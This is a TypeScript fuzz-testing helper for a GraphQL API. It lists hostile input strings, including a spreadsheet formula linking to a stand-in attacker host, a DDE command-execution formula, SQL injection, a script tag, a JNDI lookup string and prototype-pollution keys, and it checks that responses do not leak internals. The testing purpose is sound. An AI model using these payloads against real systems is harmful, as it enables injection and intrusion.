import fc from "fast-check";

export { fc };

/** Cases per property: `FUZZ_RUNS` (npm run test:load sets many more), else `fallback`. */
export function fuzzRuns(fallback: number): number {
  const runs = Number(process.env.FUZZ_RUNS);
  return Number.isInteger(runs) && runs > 0 ? runs : fallback;
}

/** Text an attacker or a careless user sends: control characters, formulas, SQL, markup, odd dates, lone surrogates. */
export const nastyStrings = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  '=HYPERLINK("http://evil.example","klicka")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "'; drop table care_units; --",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the attack
  "${jndi:ldap://x}",
  "0000",
  "0000-01-01",
  "9999-12-31",
  "10000-01-01",
  "2021-02-29",
  "2017-Q5",
  "2017-Q0",
  "2020-00",
  "1e308",
  "-1e308",
  "NaN",
  "Infinity",
  "-0",
  "83,5",
  " 83,5 ",
  "x".repeat(6000),
  "Å".repeat(300),
  "SE-BD",
  "__proto__",
  "constructor",
];

export const nastyText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyStrings) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
);

/** Numbers at and past every edge: negative shares, 1e308, fractions of counts, the 32-bit bounds. */
export const nastyNumber = fc.oneof(
  fc.constantFrom(0, -0, -50, 100, 100.0000001, 1e308, -1e308, 5e-324, 2 ** 31 - 1, -(2 ** 31), 2 ** 53, 0.5),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: -1000, max: 1000 }),
);

/** A 32-bit GraphQL Int, often a small id that exists. */
export const nastyInt = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 1, max: 60 }) },
  { weight: 1, arbitrary: fc.constantFrom(0, -1, 2 ** 31 - 1, -(2 ** 31)) },
);

export const validPeriod = fc.oneof(
  fc.integer({ min: 2000, max: 2035 }).map(String),
  fc
    .tuple(fc.integer({ min: 2000, max: 2035 }), fc.integer({ min: 1, max: 4 }))
    .map(([y, q]) => `${y}-Q${q}`),
  fc
    .tuple(fc.integer({ min: 2000, max: 2035 }), fc.integer({ min: 1, max: 12 }))
    .map(([y, m]) => `${y}-${String(m).padStart(2, "0")}`),
);

export const validDate = fc
  .date({ min: new Date("2000-01-01T00:00:00Z"), max: new Date("2035-12-31T00:00:00Z"), noInvalidDate: true })
  .map((d) => d.toISOString().slice(0, 10));

/** A GraphQL answer as a client would judge it: what, if anything, is wrong with it. */
export interface Judged {
  ok: boolean;
  problem?: string;
}

/** Codes a client may be given for its own mistake (never INTERNAL_SERVER_ERROR). */
export const CLIENT_CODES = new Set([
  "BAD_USER_INPUT",
  "BAD_REQUEST",
  "GRAPHQL_PARSE_FAILED",
  "GRAPHQL_VALIDATION_FAILED",
  "OPERATION_RESOLUTION_FAILURE",
  "CONFLICT",
  "NOT_FOUND",
  "FORBIDDEN",
  "UNAUTHENTICATED",
  "PERSISTED_QUERY_NOT_FOUND",
  "RATE_LIMITED",
]);

const LEAKS =
  /Failed query|params:|\bselect\b.+\bfrom\b|\binsert into\b|stacktrace|\n\s+at |node_modules|\.ts:\d+|127\.0\.0\.1:\d+/is;

/**
 * A fuzzed request is answered well when it is a success or a coded client error: never a 5xx,
 * never an internal error, and never SQL, a stack trace or an internal address in the answer.
 */
export function judgeAnswer(status: number, body: unknown): Judged {
  const text = JSON.stringify(body);
  if (status >= 500) return { ok: false, problem: `HTTP ${status}: ${text.slice(0, 300)}` };
  if (LEAKS.test(text)) return { ok: false, problem: `leaks internals: ${text.slice(0, 300)}` };
  const errors = (body as { errors?: { extensions?: { code?: unknown } }[] } | null)?.errors ?? [];
  for (const error of errors) {
    const code = error.extensions?.code;
    if (typeof code !== "string" || !CLIENT_CODES.has(code)) {
      return { ok: false, problem: `error code ${String(code)}: ${JSON.stringify(error).slice(0, 300)}` };
    }
  }
  return { ok: true };
}
